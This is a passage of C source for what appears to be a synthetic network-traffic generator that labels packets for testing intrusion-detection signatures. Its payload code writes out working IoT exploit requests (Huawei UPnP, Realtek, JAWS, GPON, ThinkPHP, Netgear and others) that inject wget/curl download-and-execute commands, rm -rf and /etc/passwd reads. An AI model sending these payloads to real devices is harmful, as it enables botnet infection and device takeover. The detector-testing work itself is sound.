    pc_fmt(c, "%u.%u.%u.%u", rrange(r, 1, 223), rbelow(r, 256), rbelow(r, 256), rrange(r, 1, 254));
}

/* a downloaded file's path and name: [a-z0-9./] only */
static void pc_dlfile(rng_t *r, pc_t *c)
{
    static const char *const names[] = {"mozi.m", "Mozi.a", "x86", "arm7", "mips", "mpsl", "t.sh", "bins.sh",
                                        "jaws", "gpon80", "i", "lol.sh"};
    static const char *const dirs[] = {"", "bins/", "x/y/", ""};
    uint32_t d = rbelow(r, 5);
    if (d < 4) pc_put(c, dirs[d]);
    else {
        for (uint32_t i = 0, n = rrange(r, 3, 6); i < n; i++) pc_fmt(c, "%c", 'a' + (int)rbelow(r, 26));
        pc_put(c, "/");
    }
    if (rchance(r, 0.6)) pc_put(c, names[rbelow(r, 12)]);
    else
        for (uint32_t i = 0, n = rrange(r, 2, 8); i < n; i++)
            pc_fmt(c, "%c", "abcdefghijklmnopqrstuvwxyz0123456789"[rbelow(r, 36)]);
}

/* separators 2007 names; in a request URI no bare whitespace */
static const char *pick_sep(rng_t *r, bool uri)
{
    static const char *const seps[] = {" ", "+", "%20", "${IFS}", "\t"};
    return uri ? seps[rrange(r, 1, 3)] : seps[rbelow(r, 5)];
}

/* "wget<sep>http://host[:port]/file" (2007; tool and scheme caseless);
 * the caller writes at least one more byte after it */
static void pc_loader_url(rng_t *r, pc_t *c, const char *sep)
{
    static const uint16_t ports[] = {80, 8080, 8088, 3000, 81, 443};
    pc_case(r, c, rchance(r, 0.7) ? "wget" : "curl", 0.3);
    pc_put(c, sep);
    pc_case(r, c, rchance(r, 0.8) ? "http" : "https", 0.2);
    pc_put(c, "://");
    size_t lo = c->n;
    pc_ip(r, c);
    if (rchance(r, 0.3)) pc_fmt(c, ":%u", ports[rbelow(r, 6)]);
    pc_put(c, "/");
    pc_dlfile(r, c);
    pc_mark(c, 2007, lo, c->n + 1);
}

/* a downloader without an http(s) URL (matches nothing) */
static void pc_loader_nourl(rng_t *r, pc_t *c, const char *sep)
{
    switch (rbelow(r, 4)) {
    case 0:
        pc_fmt(c, "wget%s-g%s", sep, sep);
        pc_ip(r, c);
        pc_fmt(c, "%s-l%s/tmp/.", sep, sep);
        pc_dlfile(r, c);
        pc_fmt(c, "%s-r%s/", sep, sep);
        pc_dlfile(r, c);
        break;
    case 1:
        pc_fmt(c, "wget%s", sep);
        pc_ip(r, c);
        pc_put(c, "/");
        pc_dlfile(r, c);
        break;
    case 2:
        pc_fmt(c, "tftp%s-g%s-r%s", sep, sep, sep);
        pc_dlfile(r, c);
        pc_put(c, sep);
        pc_ip(r, c);
        break;
    default:
        pc_fmt(c, "curl%s-O%s", sep, sep);
        pc_ip(r, c);
        pc_fmt(c, ":%u/", rrange(r, 1024, 9999));
        pc_dlfile(r, c);
        break;
    }
}

static uint16_t any_http_port(rng_t *r)
{
    static const wv_t p[] = {{80, 30}, {8080, 20}, {81, 6}, {88, 4}, {8000, 6}, {8081, 5}, {8443, 3}, {5555, 3},
                             {60001, 5}, {37215, 3}, {52869, 3}, {65536, 12}};
    return port_from(r, WPICK(r, p));
}

/* request line L (with its CRLF), headers in a random order (Content-Length
 * whenever there is a body; the others each 4 times in 5, left out where
 * they would push a declaration of the body past SIG_WITHIN), CRLF, body B */
static size_t http_join(rng_t *r, uint8_t *out, size_t cap, sigann_t *ann, const pc_t *L, const char *host,
                        const char *xh, const pc_t *B)
{
    char hh[96], ua[160], co[32], cl[48];
    const char *h[8];
    uint32_t n = 0;
    size_t bh = 0;
    for (int i = 0; i < B->a.n; i++)
        if (B->a.m[i].hi > bh) bh = B->a.m[i].hi;
    snprintf(hh, sizeof(hh), "Host: %s", host);
    snprintf(ua, sizeof(ua), "User-Agent: %s", http_ua[rbelow(r, N_UA)]);
    snprintf(co, sizeof(co), "Connection: %s", rchance(r, 0.5) ? "keep-alive" : "close");
    h[n++] = hh;
    h[n++] = ua;
    h[n++] = co;
    h[n++] = "Accept: */*";
    h[n++] = rchance(r, 0.5) ? "Accept-Encoding: gzip, deflate" : "Accept-Language: en-US,en;q=0.9";
    if (xh) h[n++] = xh;
    if (B->n) {
        snprintf(cl, sizeof(cl), "Content-Length: %zu", B->n);
        h[n++] = cl;
    }
    shuffle_str(r, h, n);
    pc_t c;
    pc_init(&c, out, cap);
    pc_cat(&c, L);
    size_t reserve = B->n ? strlen(cl) + 2 : 0;
    for (uint32_t i = 0; i < n; i++) {
        size_t l = strlen(h[i]) + 2;
        if (h[i] == cl) {
            pc_fmt(&c, "%s\r\n", h[i]);
            reserve = 0;
            continue;
        }
        if (!rchance(r, 0.8)) continue;
        if (bh && c.n + l + reserve + 2 + bh > SIG_WITHIN) continue;
        pc_fmt(&c, "%s\r\n", h[i]);
    }
    pc_put(&c, "\r\n");
    pc_cat(&c, B);
    pc_done(&c, ann);
    return c.n;
}

enum { H_HUAWEI, H_REALTEK, H_JAWS, H_GPON, H_THINKPHP, H_NETGEAR, H_LOADER, H_DECOY };
static const wv_t http_kinds[] = {{H_HUAWEI, 13}, {H_REALTEK, 11}, {H_JAWS, 11}, {H_GPON, 12}, {H_THINKPHP, 10},
                                  {H_NETGEAR, 10}, {H_LOADER, 12}, {H_DECOY, 21}};

static uint16_t pick_u16(rng_t *r, const uint16_t *v, uint32_t n) { return v[rbelow(r, n)]; }
#define PICK16(r, ...) pick_u16((r), (const uint16_t[]){__VA_ARGS__}, \
                                sizeof((const uint16_t[]){__VA_ARGS__}) / sizeof(uint16_t))

static const char gpon_form[] = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`";

/* An HTTP request over TCP (exploits 2001-2006 with or without a downloader
 * URL, loaders 2007, decoys): returns its length (written to out), sets
 * *dport and the declarations.  dst: the destination address's text. */
static size_t http_payload(rng_t *r, uint8_t *out, size_t cap, sigann_t *ann, uint16_t *dport, const char *dst,
                           bool v6)
{
    uint8_t lb[768], bb[1024];
    pc_t L, B;
    const char *xh = NULL;
    bool url = rchance(r, 0.6);
    const char *sep;
    size_t lo;
    pc_init(&L, lb, sizeof(lb));
    pc_init(&B, bb, sizeof(bb));
    switch (WPICK(r, http_kinds)) {
    case H_HUAWEI:
        *dport = rchance(r, 0.85) ? 37215 : PICK16(r, 37216, 80, 8080, 52869);
        pc_put(&L, "POST /ctrlt/DeviceUpgrade_1");
        lo = L.n;
        pc_put(&L, " HTTP/1.1\r\n");
        pc_mark(&L, 2001, lo, L.n);
        xh = huawei_auth;
        pc_put(&B, "<?xml version=\"1.0\" ?><s:Envelope");
        if (!url)
            pc_put(&B, " xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
                       "s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"");
        pc_put(&B, "><s:Body><u:Upgrade");
        if (!url) pc_put(&B, " xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"");
        pc_put(&B, "><NewStatusURL>$(/bin/busybox ");
        sep = pick_sep(r, false);
        if (url) {
            pc_loader_url(r, &B, sep);
            pc_fmt(&B, "%s-O%s/tmp/h;sh%s/tmp/h", sep, sep, sep);
        } else {
            pc_loader_nourl(r, &B, sep);
        }
        pc_put(&B, ")</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body>"
                   "</s:Envelope>\r\n\r\n");
        break;
    case H_REALTEK:
        *dport = rchance(r, 0.85) ? 52869 : PICK16(r, 52870, 80, 37215, 8080);
        pc_put(&L, "POST /picsdesc.xml");
        lo = L.n;
        pc_put(&L, " HTTP/1.1\r\n");
        pc_mark(&L, 2002, lo, L.n);
        xh = "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping";
        pc_put(&B, "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>`cd /var; ");
        sep = pick_sep(r, false);
        if (url) {
            pc_loader_url(r, &B, sep);
            pc_put(&B, " -O r; chmod 777 r; ./r realtek");
        } else {
            pc_loader_nourl(r, &B, sep);
            pc_put(&B, "; sh r");
        }
        pc_put(&B, "`</NewInternalClient><NewProtocol>TCP</NewProtocol></u:AddPortMapping></s:Body></s:Envelope>");
        break;
    case H_JAWS:
        *dport = any_http_port(r);
        pc_put(&L, "GET /shell?cd+/tmp");
        pc_mark(&L, 2003, L.n, L.n);
        pc_put(&L, ";rm+-rf+*;");
        sep = pick_sep(r, true);
        if (url) pc_loader_url(r, &L, sep);
        else pc_loader_nourl(r, &L, sep);
        pc_put(&L, ";sh+/tmp/jaws HTTP/1.1\r\n");
        break;
    case H_GPON:
        *dport = rchance(r, 0.85) ? (rchance(r, 0.6) ? 80 : 8080) : PICK16(r, 8081, 81, 8000, 8888, 37215);
        pc_put(&L, "POST /GponForm/diag_Form?images/");
        lo = L.n;
        pc_put(&L, " HTTP/1.1\r\n");
        pc_mark(&L, 2004, lo, L.n);
        pc_put(&B, gpon_form);
        sep = pick_sep(r, true);
        if (url) {
            pc_fmt(&B, "busybox%s", sep);
            pc_loader_url(r, &B, sep);
            pc_fmt(&B, "%s-O%s/tmp/gpon80;sh%s/tmp/gpon80", sep, sep, sep);
        } else if (rchance(r, 0.5)) {
            pc_loader_nourl(r, &B, sep);
        } else {
            pc_put(&B, "ls");
        }
        pc_put(&B, "`&ipv=0");
        break;
    case H_THINKPHP: {
        static const char *const tp[] = {"/Index/\\think\\app/", "index/\\think\\app/", "/index/\\think\\Container/",
                                         "/index/\\think\\app/"};
        *dport = any_http_port(r);
        pc_fmt(&L, "GET /index.php?s=%s", tp[rbelow(r, 4)]);
        pc_put(&L, "invokefunction&function=call_user_func_array");
        pc_mark(&L, 2005, L.n, L.n);
        if (url) {
            sep = pick_sep(r, true);
            pc_put(&L, "&vars[0]=shell_exec&vars[1][]=");
            pc_loader_url(r, &L, sep);
            pc_fmt(&L, "%s-O%s/tmp/t;sh%s/tmp/t", sep, sep, sep);
        } else {
            pc_put(&L, rchance(r, 0.5) ? "&vars[0]=md5&vars[1][]=HelloThinkPHP21" : "&vars[0]=phpinfo&vars[1][]=1");
        }
        pc_put(&L, " HTTP/1.1\r\n");
        break;
    }
    case H_NETGEAR:
        *dport = any_http_port(r);
        pc_put(&L, "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd");
        pc_mark(&L, 2006, L.n, L.n);
        pc_put(&L, "&cmd=");
        if (url) {
            sep = pick_sep(r, true);
            pc_put(&L, "rm+-rf+/tmp/*;");
            pc_loader_url(r, &L, sep);
            pc_fmt(&L, "%s-O%s/tmp/netgear;sh%snetgear", sep, sep, sep);
        } else {
            pc_put(&L, "cat+/etc/passwd");
        }
        pc_put(&L, "&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n");
        break;
    case H_LOADER: {
        *dport = any_http_port(r);
        uint32_t k = rbelow(r, 3);
        if (k == 0) {
            pc_put(&L, "POST /boaform/admin/formPing HTTP/1.1\r\n");
            pc_put(&B, "target_addr=;");
            pc_loader_url(r, &B, pick_sep(r, false));
            pc_put(&B, "|sh&waninf=1_INTERNET_R_VID_154");
        } else if (k == 1) {
            pc_put(&L, "GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;");
            pc_loader_url(r, &L, "${IFS}");
            pc_put(&L, ";sh${IFS}/var/tmp/x HTTP/1.1\r\n");
        } else {
            pc_put(&L, "POST /tmUnblock.cgi HTTP/1.1\r\n");
            pc_put(&B, "ttcp_ip=-h `cd /tmp; ");
            pc_loader_url(r, &B, pick_sep(r, false));
            pc_put(&B, " -O l; sh l`&action=&ttcp_num=2&ttcp_size=2&submit_button=&change_action=&commit=0&StartEPI=1");
        }
        break;
    }
    default: {                  /* decoys: near misses of every rule, nothing matches */
        uint32_t k = rbelow(r, 10);
        L.a.decoy = 1;
        *dport = any_http_port(r);
        if (k == 0) {
            *dport = 52869;
            pc_put(&L, "GET /picsdesc.xml HTTP/1.1\r\n");
        } else if (k == 1) {
            *dport = 37215;
            pc_put(&L, "POST /ctrlt/Other HTTP/1.1\r\n");
            pc_put(&B, "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(echo HUAWEIUPNP)"
                       "</NewStatusURL></u:Upgrade></s:Body></s:Envelope>");
        } else if (k == 2) {
            *dport = PICK16(r, 80, 8080, 3128, 8888);
            pc_put(&L, "OPTIONS http://");
            pc_ip(r, &L);
            pc_put(&L, "/ HTTP/1.1\r\n");
        } else if (k == 3) {
            pc_put(&L, "GET /shell?cd+/var;rm+-rf+*;");
            pc_loader_nourl(r, &L, "+");
            pc_put(&L, ";sh+/var/jaws HTTP/1.1\r\n");
        } else if (k == 4) {
            pc_put(&L, "GET /cgi-bin/admin.cgi?cmd=");
            pc_loader_nourl(r, &L, pick_sep(r, true));
            pc_put(&L, " HTTP/1.1\r\n");
        } else if (k == 5) {
            static const char *const plain[] = {"GET / HTTP/1.1\r\n", "GET /robots.txt HTTP/1.1\r\n",
                                                "HEAD / HTTP/1.0\r\n", "GET /favicon.ico HTTP/1.1\r\n"};
            pc_put(&L, plain[rbelow(r, 4)]);
        } else if (k == 6) {    /* an anchored request not at the payload's start */
            uint32_t j = rbelow(r, 3);
            if (j == 0) {
                *dport = PICK16(r, 80, 8080);
                pc_put(&L, "\r\nPOST /GponForm/diag_Form?images/ HTTP/1.1\r\n");
                pc_put(&B, gpon_form);
                pc_put(&B, "ls`&ipv=0");
            } else if (j == 1) {
                *dport = 52869;
                pc_put(&L, "\r\nPOST /picsdesc.xml HTTP/1.1\r\n");
            } else {
                *dport = 37215;
                pc_put(&L, " POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n");
            }
        } else if (k == 7) {
            *dport = PICK16(r, 80, 8080);
            pc_put(&L, "POST /GponForm/diag_Form?style/ HTTP/1.1\r\n");
            pc_put(&B, gpon_form);
            pc_put(&B, "ls`&ipv=0");
        } else if (k == 8) {
            pc_put(&L, "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func"
                       "&vars[0]=phpinfo&vars[1][]=1 HTTP/1.1\r\n");
        } else {                /* the URL percent-encoded: no "http://" */
            pc_put(&L, "POST /tmUnblock.cgi HTTP/1.1\r\n");
            pc_put(&B, "ttcp_ip=-h+%60cd+%2Ftmp%3B+wget+http%3A%2F%2F");
            pc_ip(r, &B);
            pc_put(&B, "%2Fx%3B+sh+x%60&StartEPI=1");
        }
        break;
    }
    }
    char host[INET6_ADDRSTRLEN + 16];
    if (*dport == 80) snprintf(host, sizeof(host), v6 ? "[%s]" : "%s", dst);
    else snprintf(host, sizeof(host), v6 ? "[%s]:%u" : "%s:%u", dst, *dport);
    return http_join(r, out, cap, ann, &L, host, xh, &B);
}

/* a TCP PSH|ACK segment carrying an HTTP request */
static void fill_payload_tcp(gen_t *g, const src_t *s, bool v6)
{
    static const uint16_t wins[] = {502, 229, 29200, 64240, 65535};
    rng_t *r = &g->r;
    spec_t *sp = &g->sp;
    char dst[INET6_ADDRSTRLEN];
    if (v6) {
        spec_v6(g, s);
        if (rchance(r, 0.2)) {
            sp->ext[0] = (ext_t){(uint8_t)(rchance(r, 0.5) ? 0 : 60), 0, 8, 0};
            sp->next_ext = 1;
        }
        if (!inet_ntop(AF_INET6, sp->d6, dst, sizeof(dst))) die_internal("inet_ntop");
    } else {
        spec_v4(g, s, dark4(r));
        if (rchance(r, 0.6)) sp->fragword = 0x4000;
        snprintf(dst, sizeof(dst), "%u.%u.%u.%u", sp->d4 >> 24, (sp->d4 >> 16) & 0xff, (sp->d4 >> 8) & 0xff,
                 sp->d4 & 0xff);
    }
    sigann_t ann;
    uint16_t dport;
    size_t n = http_payload(r, g->tmp, 1200, &ann, &dport, dst, v6);
    uint8_t opt[12] = {1, 1, 8, 10};
    put32(opt + 4, r32(r));
    put32(opt + 8, r32(r));
    bool o = rchance(r, 0.5);
    l4_tcp(sp, (uint16_t)rrange(r, 1024, 65535), dport, r32(r), r32(r), TH_PSH | TH_ACK, wins[rbelow(r, 5)],
           o ? opt : NULL, o ? 12 : 0, 0, r);
    memcpy(sp->l4 + sp->l4len, g->tmp, n);
    sp->l4len += n;
    sp->sig = ann;
}

/* a UDP probe with a rich template, to its rule's port, sometimes to a
 * port outside the filter (the rule then does not count) */
static void fill_payload_udp(gen_t *g, const src_t *s, bool v6)
{
    static const wv_t kinds[] = {{U_DNS, 20}, {U_NTP, 14}, {U_SSDP, 10}, {U_SIP, 12}, {U_MEMC, 8}, {U_SNMP, 8},
                                 {U_CLDAP, 8}, {U_WSD, 8}, {U_NBSTAT, 6}, {U_CHARGEN, 2}, {U_RANDOM, 4}};
    static const uint16_t own[U_KINDS] = {53, 123, 1900, 5060, 11211, 161, 389, 3702, 137, 19, 0};
    static const uint16_t off[U_KINDS] = {5353, 124, 1901, 5062, 11212, 162, 636, 3703, 138, 0, 0};
    rng_t *r = &g->r;
    int k = (int)WPICK(r, kinds);
    uint16_t dport = own[k];
    if (k == U_SIP && rchance(r, 0.4)) dport = 5061;
    if (off[k] && rchance(r, 0.15)) dport = off[k];
    if (k == U_RANDOM)
        do dport = (uint16_t)rrange(r, 1024, 65535); while (udp_rule_port(dport));
    CHECK(!off[k] || !udp_rule_port(off[k]));
    sigann_t ann;
    size_t n = udp_template(r, k, true, g->tmp, &ann);
    if (v6) spec_v6(g, s);
    else spec_v4(g, s, dark4(r));
    l4_udp(&g->sp, (uint16_t)rrange(r, 1024, 65535), dport, g->tmp, n);
    g->sp.sig = ann;
}

/* One frame of the payload share: 65 % TCP (15 % of those IPv6), 35 % UDP
 * (35 % IPv6); 8 % cut by the capture inside the payload, 8 % with an IP
 * length that ends inside the payload (the rest of it stays in the frame
 * and must not be scanned); both never inside a declared [lo, hi). */
static void gen_payload(gen_t *g, frame_t *fr, expect_t *ex)
{
    rng_t *r = &g->r;
    src_t s;
    bool tcp = rchance(r, 0.65);
    bool v6 = rchance(r, tcp ? 0.15 : 0.35);
    if (v6) pick_src6(g, &s); else pick_src(g, &s);
    fr->key = s.key;
    if (tcp) fill_payload_tcp(g, &s, v6); else fill_payload_udp(g, &s, v6);
    build_ip(g, fr, ex);
    size_t hdr = ex->l4hdr, n = g->sp.l4len - hdr;
    uint32_t k = rbelow(r, 100);
    if (n == 0 || k >= 16) return;
    size_t keep = pick_keep(r, &g->sp.sig, n);
    if (k < 8) {
        cut(fr, fr->l4 + hdr + keep);
        g->pay_cut++;
    } else {
        uint32_t iplen = (uint32_t)(fr->l4 + hdr + keep - fr->l3);
        if (g->sp.ver == 4) {
            put16(fr->b + fr->l3 + 2, iplen);
            v4_hdr_csum(fr->b + fr->l3);
        } else {
            put16(fr->b + fr->l3 + 4, iplen - 40);
        }
        ex->iplen = iplen;
        g->pay_short++;
    }
}

/* One packet: frame + expectation + split key.  wave_port >= 0: scan wave. */
static void gen_packet_1(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_src, int wave_port)
{
    rng_t *r = &g->r;
    src_t s;
    fr->wire = 0;
    choose_l2(g, true);
    if (g->edge && rchance(r, EDGE_SHARE)) {       /* edge cases: a fixed share, waves or not */
        pick_src(g, &s);
        fr->key = s.key;
        gen_edge(g, fr, ex, &s);
        return;
    }
    if (g->payload_share > 0 && rchance(r, g->payload_share)) {   /* payload share, waves or not */
        gen_payload(g, fr, ex);
        return;
    }
    if (wave_src) {
        fill_v4_syn(g, wave_src, wave_port);
        build_ip(g, fr, ex);
        fr->key = wave_src->key;
        return;
    }
    uint32_t c = WPICK(r, cat_w);
    if (c == C_V6) pick_src6(g, &s); else pick_src(g, &s);
    fr->key = s.key;
    switch (c) {
    case C_SYN: fill_v4_syn(g, &s, -1); break;
    case C_BACK: fill_v4_backscatter(g, &s); break;
    case C_UDP: fill_v4_udp(g, &s, rchance(r, 0.0005) && !g->no_jumbo, -1); break;
    case C_ICMP: fill_v4_icmp(g, &s, -1); break;
    case C_V6: fill_v6(g, &s, -1, -1, -1); break;
    case C_OTHER: fill_v4_other(g, &s, -1); break;
    case C_FRAG4: fill_v4_frag(g, &s, rchance(r, 0.5), 0); break;
    default: die_internal("category");
    }
    build_ip(g, fr, ex);
}

static void gen_packet(gen_t *g, frame_t *fr, expect_t *ex, const src_t *wave_src, int wave_port)
{
    gen_packet_1(g, fr, ex, wave_src, wave_port);
    truth_payload(ex, fr->l3, fr->l4, fr->len);
}

/* ------------------------------------------------------------------------ */
/* counters and truth output                                                 */

typedef struct {
    uint64_t packets, bytes, non_ip, malformed, ipv4, ipv6, fragments, l4_trunc, syn, synack;
    uint64_t fp[3];
    uint64_t proto[256];
    uint64_t icmp[2][256];          /* per ICMP type: [0] IPv4 protocol 1, [1] ICMPv6 */
    uint64_t *tcp, *udp;            /* [65536] */
    uint16_t *tcp_t, *udp_t;        /* touched ports (interval counters only) */
    uint32_t ntcp_t, nudp_t;
    bool track;
} cnt_t;

static void cnt_init(cnt_t *c, bool track)
{
    memset(c, 0, sizeof(*c));
    c->tcp = calloc(65536, sizeof(uint64_t));
    c->udp = calloc(65536, sizeof(uint64_t));
    c->track = track;
    if (track) {
        c->tcp_t = malloc(65536 * sizeof(uint16_t));
        c->udp_t = malloc(65536 * sizeof(uint16_t));
    }
    if (!c->tcp || !c->udp || (track && (!c->tcp_t || !c->udp_t))) die_io("out of memory");
}

static void cnt_free(cnt_t *c)
{
    free(c->tcp);
    free(c->udp);
    free(c->tcp_t);
    free(c->udp_t);
    memset(c, 0, sizeof(*c));
}

static void cnt_reset(cnt_t *c)
{
    for (uint32_t i = 0; i < c->ntcp_t; i++) c->tcp[c->tcp_t[i]] = 0;
    for (uint32_t i = 0; i < c->nudp_t; i++) c->udp[c->udp_t[i]] = 0;
    uint64_t *t = c->tcp, *u = c->udp;
    uint16_t *tt = c->tcp_t, *ut = c->udp_t;
    bool track = c->track;
    memset(c, 0, sizeof(*c));
    c->tcp = t; c->udp = u; c->tcp_t = tt; c->udp_t = ut; c->track = track;
}

static void cnt_add(cnt_t *c, const expect_t *e, uint32_t len)
{
    c->packets++;
    c->bytes += len;
    switch (e->cat) {
    case CAT_NONIP: c->non_ip++; return;
    case CAT_MALF: c->malformed++; return;
    case CAT_V4: c->ipv4++; break;
    case CAT_V6: c->ipv6++; break;
    default: die_internal("uncategorised frame");
    }
    c->proto[e->proto]++;
    if (e->frag) { c->fragments++; return; }
    switch (e->l4) {
    case L4_NONE: break;
    case L4_TRUNC: c->l4_trunc++; break;
    case L4_TCP:
        if (c->tcp[e->dport]++ == 0 && c->track) c->tcp_t[c->ntcp_t++] = e->dport;
        c->syn += e->syn;
        c->synack += e->synack;
        c->fp[0] += e->mirai; c->fp[1] += e->zmap; c->fp[2] += e->masscan;
        break;
    case L4_UDP:
        if (c->udp[e->dport]++ == 0 && c->track) c->udp_t[c->nudp_t++] = e->dport;
        break;
    case L4_ICMP: c->icmp[e->cat == CAT_V6][e->icmp_type]++; break;
    default: die_internal("l4 class");
    }
}

static int cmp_u16(const void *a, const void *b)
{
    return (int)*(const uint16_t *)a - (int)*(const uint16_t *)b;
}

static void put_ports(FILE *f, const char *name, const uint64_t *a, uint16_t *touched, uint32_t n)
{
    fprintf(f, ",\"%s\":{", name);
    bool first = true;
    if (touched) {
        qsort(touched, n, sizeof(uint16_t), cmp_u16);
        for (uint32_t i = 0; i < n; i++) {
            fprintf(f, "%s\"%u\":%llu", first ? "" : ",", touched[i], (unsigned long long)a[touched[i]]);
            first = false;
        }
    } else {
        for (uint32_t p = 0; p < 65536; p++) {
            if (!a[p]) continue;
            fprintf(f, "%s\"%u\":%llu", first ? "" : ",", p, (unsigned long long)a[p]);
            first = false;
        }
    }
    fputc('}', f);
}

static void put_counts(FILE *f, cnt_t *c, uint64_t start, uint64_t end)
{
#define U(x) ((unsigned long long)(x))
    fprintf(f, "\"start\":%llu,\"end\":%llu,\"packets\":%llu,\"bytes\":%llu,\"non_ip\":%llu,"
               "\"malformed\":%llu,\"ipv4\":%llu,\"ipv6\":%llu,\"fragments\":%llu,\"l4_truncated\":%llu",
            U(start), U(end), U(c->packets), U(c->bytes), U(c->non_ip), U(c->malformed), U(c->ipv4),
            U(c->ipv6), U(c->fragments), U(c->l4_trunc));
    fputs(",\"proto\":{", f);
    bool first = true;
    for (int p = 0; p < 256; p++) {
        if (!c->proto[p]) continue;
        fprintf(f, "%s\"%d\":%llu", first ? "" : ",", p, U(c->proto[p]));
        first = false;
    }
    fputc('}', f);
    put_ports(f, "tcp_dst_ports", c->tcp, c->track ? c->tcp_t : NULL, c->ntcp_t);
    put_ports(f, "udp_dst_ports", c->udp, c->track ? c->udp_t : NULL, c->nudp_t);
    for (int v = 0; v < 2; v++) {
        fprintf(f, ",\"%s\":{", v ? "icmp6_types" : "icmp_types");
        first = true;
        for (int t = 0; t < 256; t++) {
            if (!c->icmp[v][t]) continue;
            fprintf(f, "%s\"%d\":%llu", first ? "" : ",", t, U(c->icmp[v][t]));
            first = false;
        }
        fputc('}', f);
    }
    static const char *const fpn[3] = {"mirai", "zmap", "masscan"};
    fputs(",\"fingerprints\":{", f);
    first = true;
    for (int i = 0; i < 3; i++) {
        if (!c->fp[i]) continue;
        fprintf(f, "%s\"%s\":%llu", first ? "" : ",", fpn[i], U(c->fp[i]));
        first = false;
    }
    fprintf(f, "},\"tcp_syn\":%llu,\"tcp_synack\":%llu", U(c->syn), U(c->synack));
#undef U
}

/* ------------------------------------------------------------------------ */
/* distinct sources / destinations / flowtuples: open-addressing tables      */

/* A slot is: tag (u32; 0 = empty, else hash bits | 1), key, value at voff.
 * Keys are whole multiples of 4 bytes, zero padded. */
typedef struct {
    uint32_t ksz, voff, esz;    /* key bytes; value offset; slot bytes */
    uint64_t cap, n;            /* cap: a power of two */
    uint8_t *slot;
    uint32_t *used;             /* occupied slots in insertion order (tables that are reset) */
    bool keep;
} tab_t;

static inline uint64_t hash_key(const uint8_t *k, uint32_t n)
{
    uint64_t h = n;
    while (n >= 8) { uint64_t x; memcpy(&x, k, 8); h = mix64(h ^ x); k += 8; n -= 8; }
    if (n) { uint32_t x; memcpy(&x, k, 4); h = mix64(h ^ x); }
    return h;
}

static inline bool key_eq(const uint8_t *a, const uint8_t *b, uint32_t n)
{
    for (uint32_t i = 0; i < n; i += 4) {
        uint32_t x, y;
        memcpy(&x, a + i, 4);
        memcpy(&y, b + i, 4);
        if (x != y) return false;
    }
    return true;
}

#define TAB_MMAP (4u << 20)     /* slot arrays from this size on: mmap, huge pages if offered */

static void tab_alloc(tab_t *t, uint64_t cap)
{
    CHECK(cap <= (1ull << 32));
    t->cap = cap;
    t->n = 0;
    size_t sz = (size_t)cap * t->esz;
    if (sz >= TAB_MMAP) {
        void *p = mmap(NULL, sz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) die_io("out of memory");
        (void)madvise(p, sz, MADV_HUGEPAGE);
        t->slot = p;
    } else {
        t->slot = calloc(cap, t->esz);
    }
    t->used = t->keep ? malloc(cap * sizeof(uint32_t)) : NULL;
    if (!t->slot || (t->keep && !t->used)) die_io("out of memory");
}

static void tab_init(tab_t *t, uint32_t ksz, uint32_t vsz, bool keep)
{
    uint32_t al = vsz >= 8 ? 8 : 4;
    CHECK(ksz % 4 == 0);
    memset(t, 0, sizeof(*t));
    t->ksz = ksz;
    t->voff = (4 + ksz + al - 1) / al * al;
    t->esz = (t->voff + vsz + al - 1) / al * al;
    t->keep = keep;
    tab_alloc(t, 1024);
}

static void tab_slot_free(uint8_t *slot, uint64_t cap, uint32_t esz)
{
    size_t sz = (size_t)cap * esz;
    if (sz >= TAB_MMAP) munmap(slot, sz);
    else free(slot);
}

static void tab_free(tab_t *t)
{
    tab_slot_free(t->slot, t->cap, t->esz);
    free(t->used);
    memset(t, 0, sizeof(*t));
}

/* copy a slot into the first free place of its probe sequence */
static void tab_place(tab_t *t, const uint8_t *e)
{
    uint64_t m = t->cap - 1;
    uint64_t i = hash_key(e + 4, t->ksz) & m;
    for (;;) {
        uint32_t x;
        memcpy(&x, t->slot + i * t->esz, 4);
        if (!x) break;
        i = (i + 1) & m;
    }
    memcpy(t->slot + i * t->esz, e, t->esz);
    if (t->used) t->used[t->n] = (uint32_t)i;
    t->n++;
}

static void tab_grow(tab_t *t)
{
    tab_t o = *t;
    tab_alloc(t, o.cap * 2);
    if (o.used) {
        for (uint64_t j = 0; j < o.n; j++) tab_place(t, o.slot + (uint64_t)o.used[j] * o.esz);
    } else {
        for (uint64_t i = 0; i < o.cap; i++) {
            uint32_t tg;
            memcpy(&tg, o.slot + i * o.esz, 4);
            if (tg) tab_place(t, o.slot + i * o.esz);
        }
    }
    CHECK(t->n == o.n);
    tab_slot_free(o.slot, o.cap, o.esz);
    free(o.used);
}

/* slot for key, whose hash_key() is h (created with a zero value when
 * absent); *isnew tells which */
static uint8_t *tab_get(tab_t *t, const uint8_t *key, uint64_t h, bool *isnew)
{
    uint64_t m = t->cap - 1;
    uint32_t tg = (uint32_t)(h >> 32) | 1;
    for (uint64_t i = h & m;; i = (i + 1) & m) {
        uint8_t *e = t->slot + i * t->esz;
        uint32_t x;
        memcpy(&x, e, 4);
        if (!x) {
            if ((t->n + 1) * 10 > t->cap * 7) {
                tab_grow(t);
                return tab_get(t, key, h, isnew);
            }
            memset(e, 0, t->esz);
            memcpy(e, &tg, 4);
            memcpy(e + 4, key, t->ksz);
            if (t->used) t->used[t->n] = (uint32_t)i;
            t->n++;
            *isnew = true;
            return e;
        }
        if (x == tg && key_eq(e + 4, key, t->ksz)) {
            *isnew = false;
            return e;
        }
    }
}

static inline void tab_prefetch(const tab_t *t, uint64_t h)
{
    __builtin_prefetch(t->slot + (h & (t->cap - 1)) * t->esz);
}

static void tab_reset(tab_t *t)
{
    CHECK(t->used);
